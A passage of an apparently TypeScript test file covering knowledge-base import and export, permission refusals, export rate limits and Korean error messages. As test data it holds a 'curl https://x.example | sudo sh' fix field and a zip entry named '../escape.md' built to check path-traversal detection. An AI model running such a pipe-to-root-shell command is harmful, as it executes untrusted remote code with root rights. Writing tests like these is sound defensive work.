            rootCause: "정책상 [7일](https://example.com/policy) 뒤에는 환불할 수 없어요.",
          }),
          resolution: "works_as_designed",
          toil: [{ description: "환불 요청을 손으로 처리, 두 번", minutes: 20 }],
        },
        status: "published",
      },
      published,
    );
    await t.db.updateTable("writeups").set({ updated_at: edited }).where("id", "=", id).execute();
    const json = await exportKnowledgeBaseJson(t.db);
    expect(JSON.parse(json)[0]).toMatchObject({
      published_at: published.toISOString(),
      updated_at: edited,
    });
    const archive = await exportKnowledgeBaseZip(t.db, now);
    const expected = [
      {
        external_id: `koan-${await instanceKey(t.db)}-${id}`,
        created_at: published.toISOString(),
        published_at: published.toISOString(),
        updated_at: edited,
      },
    ];
    for (const [name, file] of [
      ["kb.json", json],
      ["kb.zip", archive],
    ] as const) {
      const fresh = await createTestDatabase();
      try {
        await buildUser(fresh.db, writer);
        const imported = await importInto(fresh.db, name, file);
        expect(imported.parsed.problems).toEqual([]);
        expect(imported.parsed.ignoredFields).toEqual([]);
        expect(await datesOf(fresh.db)).toEqual(expected);
        // The toil board says when the chore was recorded, not when the file was imported.
        const toil = await fresh.db.selectFrom("toil").select("created_at").execute();
        expect(toil).toEqual([{ created_at: published.toISOString() }]);
        // And it exports as it came in.
        if (name === "kb.json") expect(await exportKnowledgeBaseJson(fresh.db)).toBe(json);
      } finally {
        await fresh.close();
      }
    }
  });

  it("names a date it can't read, and takes a date after the import as the import's", async () => {
    const items = [
      { ...GOOD, external_id: "A", published_at: "yesterday" },
      { ...GOOD, external_id: "B", published_at: "2030-01-01T00:00:00Z", updated_at: "2030-02-01" },
      {
        ...GOOD,
        external_id: "C",
        published_at: "2025-06-01",
        updated_at: "2025-06-02 10:00+09:00",
      },
    ];
    const imported = await importInto(t.db, "kb.json", JSON.stringify(items));
    expect(imported.parsed.problems).toEqual([
      {
        where: "item 1",
        field: "published_at",
        problem: "must be a date and time such as 2026-11-30T09:00:00Z",
      },
    ]);
    expect(await datesOf(t.db)).toEqual([
      {
        external_id: "B",
        created_at: now.toISOString(),
        published_at: now.toISOString(),
        updated_at: now.toISOString(),
      },
      {
        external_id: "C",
        created_at: "2025-06-01T00:00:00.000Z",
        published_at: "2025-06-01T00:00:00.000Z",
        updated_at: "2025-06-02T01:00:00.000Z",
      },
    ]);
  });
});

describe("an imported write-up opened in its edit form", () => {
  it("keeps tags holding a comma as they are when the form is saved unchanged", async () => {
    const tags = ["a,b", "결제，환불", "o'neil", '"quoted"'];
    await importInto(t.db, "kb.json", JSON.stringify([{ ...GOOD, tags }]));
    const stored = await writeupByExternalId(t.db, "OPS-1");
    expect([...stored.tags].sort()).toEqual([...tags].sort());
    const form = writeupValues(stored);
    const parsed = writeupFormSchema.safeParse(form);
    expect(parsed.success && [...parsed.data.tags].sort()).toEqual([...tags].sort());
  });

  it("keeps toil the import took outside the form's 1–480 minutes when saved unchanged", async () => {
    const toil = [
      { description: "Zero", minutes: 0 },
      { description: "야간 복구, 손으로", minutes: 600 },
      { description: "Corrected invoices by hand", minutes: 30 },
    ];
    await importInto(t.db, "kb.json", JSON.stringify([{ ...GOOD, toil }]));
    const stored = await writeupByExternalId(t.db, "OPS-1");
    expect(stored.toil).toEqual(toil);
    const form = new FormData();
    for (const [name, value] of Object.entries(writeupValues(stored))) form.set(name, value);
    const saved = parseWriteupForm(
      form,
      { before: { ...stored, rootCause: stored.root_cause } },
      stored.toil,
    );
    expect(saved.ok && saved.data.toil).toEqual(toil);
    // Typed anew (or changed), the form's range still holds.
    form.set("toil", "야간 복구, 손으로, 601");
    const changed = parseWriteupForm(form, false, stored.toil);
    expect(changed.ok).toBe(false);
    expect(parseWriteupForm(form, false).ok).toBe(false);
  });
});

describe("round trip and permissions on the same instance", () => {
  const content = (over: Partial<WriteupInput> = {}): WriteupInput => ({
    title: "결제 웹훅이 두 번 도착함",
    symptom: "Payments were recorded twice.",
    component: "billing",
    rootCause: "No idempotency key.",
    fix: "Store the delivery id.",
    debugging: "Read the logs.",
    resolution: "fixed",
    tags: ["webhooks"],
    links: [
      { label: "Related", url: "/kb/1" },
      { label: "Ticket", url: "/tickets/3" },
      { label: "PR", url: "https://github.com/o/r/pull/9" },
    ],
    toil: [],
    ...over,
  });

  it("the preview's sample lists what would change before what would not", async () => {
    for (let i = 1; i <= 5; i++) {
      await createWriteup(
        t.db,
        { authorId: lead, writeup: content({ title: `Write-up ${i}` }), status: "published" },
        now,
      );
    }
    // The export again, its last write-up edited: the edit came 5th, past a sample of 3.
    const items = JSON.parse(await exportKnowledgeBaseJson(t.db)) as { title: string }[];
    const last = items.at(-1);
    if (last) last.title = "Write-up 5, revised";
    const parsed = parsedOk(await parseKbImportFile("kb.json", "", JSON.stringify(items)));
    const importer = { viewer: { id: lead, role: "lead" as const }, mentorOf: assignmentMentorOf };
    const preview = await previewKbImport(t.db, importer, parsed.items, { sampleSize: 3 });
    expect(preview).toMatchObject({ create: 0, update: 1, unchanged: 4 });
    expect(preview.sample.map((s) => [s.title, s.action])).toEqual([
      ["Write-up 5, revised", "update"],
      ["Write-up 1", "unchanged"],
      ["Write-up 2", "unchanged"],
    ]);
  });

  it("export then import into the same instance: 0 duplicates, 0 refused, Koan-path links kept", async () => {
    for (let i = 1; i <= 5; i++) {
      await createWriteup(
        t.db,
        { authorId: lead, writeup: content({ title: `Write-up ${i}` }), status: "published" },
        now,
      );
    }
    const json = await exportKnowledgeBaseJson(t.db);
    expect(json).toContain(`"external_id": "koan-${await instanceKey(t.db)}-1"`);
    const again = await importInto(t.db, "kb.json", json);
    expect(again.parsed.problems).toEqual([]);
    expect(again.preview.refused).toEqual([]);
    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: 5, refused: 0 });
    expect(await writeupCount(t.db)).toBe(5);
    const zipped = await exportKnowledgeBaseZip(t.db, now);
    expect((await importInto(t.db, "kb.zip", zipped)).counts).toEqual({
      created: 0,
      updated: 0,
      unchanged: 5,
      refused: 0,
    });
    // An edited export updates the write-up it came from, not a copy.
    const edited = json.replace('"title": "Write-up 2"', '"title": "Write-up 2, revised"');
    expect((await importInto(t.db, "kb.json", edited)).counts).toMatchObject({ updated: 1 });
    expect(await writeupCount(t.db)).toBe(5);
    expect((await getWriteup(t.db, 2))?.title).toBe("Write-up 2, revised");
    expect(await exportKnowledgeBaseJson(t.db)).toBe(edited);
  });

  it("an import may change only write-ups the importer may edit; the others are listed, not applied", async () => {
    const mentor = await buildTestUser(t.db, "mentor", { name: "최유나" });
    const leads = await createWriteup(
      t.db,
      { authorId: lead, writeup: content(), status: "published", externalId: "OPS-7" },
      now,
    );
    const own = await createWriteup(
      t.db,
      {
        authorId: mentor,
        writeup: content({ title: "Mine" }),
        status: "published",
        externalId: "OPS-8",
      },
      now,
    );
    const file = JSON.stringify([
      { ...GOOD, external_id: "OPS-7", title: "Replaced", fix: "curl https://x.example | sudo sh" },
      { ...GOOD, external_id: "OPS-8", title: "Mine, revised" },
      { ...GOOD, external_id: "OPS-9", title: "New" },
    ]);
    const importer = {
      viewer: { id: mentor, role: "mentor" as const },
      mentorOf: assignmentMentorOf,
    };
    const parsed = parsedOk(await parseKbImportFile("kb.json", "application/json", file));
    const preview = await previewKbImport(t.db, importer, parsed.items);
    expect(preview).toMatchObject({ create: 1, update: 1, unchanged: 0 });
    expect(preview.refused).toEqual([
      {
        where: "item 1",
        externalId: "OPS-7",
        title: "Replaced",
        reason: "knowledge.import.refused",
      },
    ]);
    const counts = await applyKbImport(t.db, { importer, items: parsed.items }, now);
    expect(counts).toEqual({ created: 1, updated: 1, unchanged: 0, refused: 1 });
    expect((await getWriteup(t.db, leads))?.title).toBe("결제 웹훅이 두 번 도착함");
    expect((await getWriteup(t.db, own))?.title).toBe("Mine, revised");
  });
});

describe("the import and export routes", () => {
  let importPage: typeof import("~/routes/kb.import");
  let exportRoute: typeof import("~/routes/kb.export");
  let shared: TestDatabase;
  let tmp: string;
  const saved = { DATABASE_PATH: process.env.DATABASE_PATH, TMPDIR: process.env.TMPDIR };
  const cookies = { lead: "", mentor: "", newcomer: "" };

  beforeAll(async () => {
    shared = await createTestDatabase();
    tmp = tempDir("koan-kb-import-page-");
    process.env.TMPDIR = tmp; // previews are kept under the OS temp folder
    process.env.DATABASE_PATH = shared.file;
    importPage = await import("~/routes/kb.import");
    exportRoute = await import("~/routes/kb.export");
    const { sessionCookie } = await import("~/auth/current-user.server");
    for (const role of ["lead", "mentor", "newcomer"] as const) {
      const userId = await buildTestUser(shared.db, role);
      const { token } = await createSession(shared.db, { userId }, { idleDays: 7, maxDays: 30 });
      cookies[role] = (await sessionCookie().serialize(token)).split(";")[0] ?? "";
    }
  });
  afterAll(async () => {
    closeSharedDatabase();
    await shared.close();
    fs.rmSync(tmp, { recursive: true, force: true });
    for (const [key, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
  });

  const args = (request: Request) => ({ request, params: {}, context: {} });

  it("previews an upload for a lead, imports it on confirmation, and refuses newcomers", async () => {
    const url = "http://koan.test/kb/import";
    const upload = (cookie: string) => {
      const form = new FormData();
      form.set("intent", "preview");
      const body = JSON.stringify([GOOD, { ...GOOD, external_id: "OPS-2", resolution: "?" }]);
      form.set("file", new File([body], "kb.json", { type: "application/json" }));
      return new Request(url, { method: "POST", body: form, headers: { Cookie: cookie } });
    };
    expect(await callRoute(importPage.action, upload(cookies.newcomer))).toMatchObject({
      thrown: true,
      status: 403,
    });
    expect(
      await callRoute(
        importPage.loader,
        new Request(url, { headers: { Cookie: cookies.newcomer } }),
      ),
    ).toMatchObject({ thrown: true, status: 403 });

    const previewed = await callRoute(importPage.action, upload(cookies.lead));
    expect(previewed.body).toMatchObject({
      intent: "preview",
      counts: { items: 1, create: 1, update: 0, unchanged: 0, problems: 1, skipped: 0 },
      problems: [{ field: "resolution" }],
    });
    // The item column travels as a message, read in the person's language on the page.
    const [problem] = (previewed.body as { problems: { where: string }[] }).problems;
    expect(en.msg(problem?.where)).toBe("item 2");
    const confirm = (batch: string) =>
      new Request(url, {
        method: "POST",
        body: new URLSearchParams({ intent: "apply", batch }),
        headers: { Cookie: cookies.lead },
      });
    const batch = String(previewed.body.batch);
    expect((await callRoute(importPage.action, confirm(batch))).body).toMatchObject({
      intent: "applied",
      result: { created: 1, updated: 0, unchanged: 0, problems: 1 },
    });
    // A preview is applied once.
    expect((await callRoute(importPage.action, confirm(batch))).status).toBe(410);
  });

  it("streams JSON and zip downloads to mentors and leads, refuses newcomers, sends others to log in", async () => {
    const get = (query: string, cookie?: string) =>
      exportRoute.loader(
        args(
          new Request(`http://koan.test/kb/export${query}`, {
            headers: cookie ? { Cookie: cookie } : {},
          }),
        ),
      );
    const json = await get("?format=json", cookies.mentor);
    expect(json.status).toBe(200);
    expect(json.headers.get("Content-Type")).toBe("application/json; charset=utf-8");
    expect(json.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="koan-knowledge-base-\d{4}-\d{2}-\d{2}\.json"$/,
    );
    expect((JSON.parse(await json.text()) as { external_id: string }[])[0]?.external_id).toBe(
      "OPS-1",
    );
    const archive = await get("?format=zip", cookies.lead);
    expect(archive.headers.get("Content-Type")).toBe("application/zip");
    expect(Object.keys(unzipSync(new Uint8Array(await archive.arrayBuffer())))).toEqual([
      "1-invoice-totals-off-by-a-cent.md",
    ]);
    expect((await get("?format=xml", cookies.mentor)).status).toBe(400);
    // Refused with a page of its own (a resource route has no error boundary to show).
    expect(
      await callRoute(
        exportRoute.loader,
        new Request("http://koan.test/kb/export?format=json", {
          headers: { Cookie: cookies.newcomer },
        }),
      ),
    ).toMatchObject({ thrown: false, status: 403 });
    expect(
      await callRoute(exportRoute.loader, new Request("http://koan.test/kb/export?format=json")),
    ).toMatchObject({ thrown: true, status: 302 });
  });

  it("one export at a time per person: a second while the first streams is 429, then it is free again", async () => {
    const get = (cookie: string, signal?: AbortSignal) =>
      exportRoute.loader(
        args(
          new Request("http://koan.test/kb/export?format=zip", {
            headers: { Cookie: cookie },
            signal,
          }),
        ),
      );
    const first = await get(cookies.mentor);
    expect(first.status).toBe(200);
    const second = await get(cookies.mentor);
    expect(second.status).toBe(429);
    expect(await second.text()).toMatch(/previous export is still being prepared/);
    // Someone else may export meanwhile.
    const other = await get(cookies.lead);
    expect(other.status).toBe(200);
    await other.arrayBuffer();
    // Finishing the first download frees the person's slot.
    await first.arrayBuffer();
    const third = await get(cookies.mentor);
    expect(third.status).toBe(200);
    // So does going away mid-download (the request is aborted).
    const leaving = new AbortController();
    await third.arrayBuffer();
    const abandoned = await get(cookies.mentor, leaving.signal);
    expect(abandoned.status).toBe(200);
    leaving.abort();
    expect((await get(cookies.mentor)).status).toBe(200);
  });

  it("an export whose client hung up before it started leaves the person free to export", async () => {
    // The client left while the loader awaited the session: Remix races the loader against the
    // request's signal and drops its response unread, so no "abort" and no read ever came.
    const gone = new AbortController();
    gone.abort();
    for (let i = 0; i < 2; i++) {
      await exportRoute.loader(
        args(
          new Request("http://koan.test/kb/export?format=zip", {
            headers: { Cookie: cookies.lead },
            signal: gone.signal,
          }),
        ),
      );
    }
    const next = await exportRoute.loader(
      args(
        new Request("http://koan.test/kb/export?format=zip", {
          headers: { Cookie: cookies.lead },
        }),
      ),
    );
    expect(next.status).toBe(200);
    await next.arrayBuffer();
  });
});

describe("a Korean reader of the import's problems", () => {
  const ko = translate("ko");
  const english = /\b(item|file|name|section|body|appears|twice|missing|line|must|look)\b/;

  it("reads the item column, zip and Markdown problems, and their columns in Korean", async () => {
    const json = await parseKbImportFile(
      "kb.json",
      "application/json",
      JSON.stringify([GOOD, { ...GOOD, title: "Same id again" }, "not an object"]),
    );
    if (!json.ok) throw new Error("expected a readable file");
    expect(json.problems.map((p) => [ko.msg(p.where), ko.msg(p.field), ko.msg(p.problem)])).toEqual(
      [
        ["항목 2", "external_id", "“OPS-1”은 항목 1에도 있어요"],
        ["항목 3", "항목", '{"title": …} 같은 객체여야 해요'],
      ],
    );

    const archive = zip({
      "../escape.md": "x",
      "kb/no-front-matter.md": "## Symptom\n\nIt broke.",
      "kb/bad.md": markdown(
        "title: Bad\nresolution: fixed\ntags: [a, b\nnot a key value",
        "Stray\n\n## Symptom\n\nx\n\n## Links\n\n- see https://example.com\n\n## Symptom\n\nagain",
      ),
    });
    const parsed = await parseKbImportFile("kb.zip", "application/zip", archive);
    if (!parsed.ok) throw new Error("expected a readable zip");
    const rows = parsed.problems.map((p) => [p.where, ko.msg(p.field), ko.msg(p.problem)]);
    expect(rows).toEqual([
      ["../escape.md", "파일 이름", "이름이 zip 바깥을 가리켜요(..)"],
      [
        "kb/no-front-matter.md",
        "머리말(front matter)",
        "없어요. 파일을 --- 줄로 시작하고, title:과 resolution: 줄을 쓴 다음 ---로 닫으세요",
      ],
      ["kb/bad.md", "머리말(front matter)", "tags: 목록은 ]로 끝나야 해요"],
      [
        "kb/bad.md",
        "머리말(front matter)",
        "5번째 줄은 key: value 형식이어야 해요(지금: “not a key value”)",
      ],
      ["kb/bad.md", "symptom", "“## Symptom” 섹션이 두 번 있어요"],
      ["kb/bad.md", "본문", "첫 섹션 앞에 글이 있어요. ## 증상(## Symptom) 아래로 옮기세요"],
      [
        "kb/bad.md",
        "links",
        "링크는 한 줄에 하나씩 - [label](https://…) 형식으로 쓰세요(지금: “- see https://example.com”)",
      ],
    ]);
    // Only what the person wrote (file names, quoted lines) and the format's own words remain.
    for (const [, field, problem] of rows) {
      expect(
        `${field?.replace("front matter", "")} ${problem?.replace(/“[^”]*”|\(\.\.\)|## \w+|--- |title:|resolution:/g, "")}`,
      ).not.toMatch(english);
    }

    const damaged = await parseKbImportFile(
      "",
      "application/zip",
      new Uint8Array([0x50, 0x4b, 3, 4, 1]),
    );
    if (damaged.ok) throw new Error("expected a refusal");
    expect(ko.msg(damaged.message)).toBe("이 파일: 읽을 수 있는 zip 파일이 아니에요.");
  });
});
